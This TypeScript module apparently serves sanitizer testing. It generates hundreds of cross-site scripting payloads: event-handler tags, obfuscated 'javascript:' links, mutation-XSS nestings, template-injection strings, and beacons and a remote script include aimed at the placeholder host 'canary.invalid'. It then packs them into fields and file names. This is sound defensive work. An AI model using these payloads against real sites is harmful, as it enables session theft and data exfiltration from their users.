/** Where stolen or fetched things would go: a name that never resolves. */
export const abroad = 'canary.invalid'

const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'details open',
  'body',
  'input autofocus',
  'object data=x',
  'marquee',
  'style',
]
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onanimationstart', 'onpointerenter', 'onfinish']
/** Ends of whatever a careless page might have put the text into. */
const ways = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '</script>',
  '</textarea>',
  '</title>',
  '</style>',
  ']]>',
  '`',
  '\\',
  '&quot;&gt;',
]
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,',
  'vbscript:',
  '\u0001javascript:',
  'javascript&colon;',
  'jav&#x0A;ascript:',
]
const links: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `[a][1]\n\n[1]: ${address}`,
  (address) => `![a](${address})`,
  (address) => `<a href="${address}">a</a>`,
  (address) => `<form action="${address}"><button>`,
]
const beacons: readonly ((address: string) => string)[] = [
  (address) => `![x](${address})`,
  (address) => `<img srcset="${address} 2x">`,
  (address) => `<link rel=prefetch href=${address}>`,
  (address) => `<style>@import "${address}"; body{background:url(${address})}</style>`,
  (address) => `<video poster=${address}>`,
  (address) => `<audio autoplay src=${address}>`,
  (address) => `<svg><image href=${address}>`,
  (address) => `<svg><use href="${address}#x">`,
  (address) => `<iframe src=${address}>`,
  (address) => `<embed src=${address}>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href=${address}>`,
  (address) => `<p style="background:url(${address})">`,
]
/** Nested in ways that parse once as text and the second time as markup. */
const mutations: readonly ((call: string) => string)[] = [
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `\`\`\`mermaid\nsequenceDiagram\nA->>B: <img src=x onerror=${call}>\n\`\`\``,
  () => `\`\`\`mermaid\nclassDiagram\nclassDef x } body{display:none}\n\`\`\``,
  (call) => `$$\\href{javascript:${call}}{x}$$`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}<%= ${call} %>#{${call}}`,
  (call) => `<script>${call}</script>`,
  () => `<script src=//${abroad}/x.js></script>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
]

/** Payloads made of rules, each calling `canary(n)` or asking for `/n` abroad: at least 500, none twice. */
export function payloads(): readonly string[] {
  const made: string[] = []
  const call = (): string => `canary(${made.length})`
  elements.forEach((element, at) =>
    events.forEach((event, turn) => {
      for (let step = 0; step < 5; step++)
        made.push(`${ways[(at * 3 + turn + step * 4) % ways.length]}<${element} ${event}=${call()}>`)
    }),
  )
  for (const scheme of schemes) for (const link of links) made.push(link(`${scheme}${call()}`))
  for (const scheme of ['https:', 'http:', ''])
    for (const beacon of beacons) made.push(beacon(`${scheme}//${abroad}/${made.length}`))
  for (const way of ['', '<b>', '> ', '* ', '| '])
    for (const mutation of mutations) made.push(`${way}${mutation(call())}`)
  return [...new Set(made)]
}

/** Text with control characters and line ends left out, as a field of one line takes it. */
const inline = (text: string): string => text.replaceAll(/[\u0000-\u001f]+/g, ' ')

/** All payloads in as few texts of at most `max` characters as it takes; `line` for fields of one line. What is longer alone stays out. */
export function packed(max: number, kind: 'line' | 'text', all: readonly string[] = payloads()): readonly string[] {
  const texts: string[] = []
  let text = ''
  for (const payload of all) {
    const next = kind === 'line' ? inline(payload) : payload.replaceAll(/[\u0000-\u0008\u000b-\u001f]/g, '')
    const joint = text === '' ? '' : kind === 'line' ? ' ' : '\n\n'
    if (next.length > max) continue
    if (text.length + joint.length + next.length > max) {
      texts.push(text)
      text = next
    } else text += joint + next
  }
  return text === '' ? texts : [...texts, text]
}

/** Those that a file may be called by: without separators and unseen signs, which are refused. */
export const fileNames = (): readonly string[] =>
  packed(
    190,
    'line',
    payloads().filter((one) => !/[/\\\p{Cc}\p{Cf}\p{Cs}\p{Cn}\p{Zl}\p{Zp}]/u.test(one)),
  )
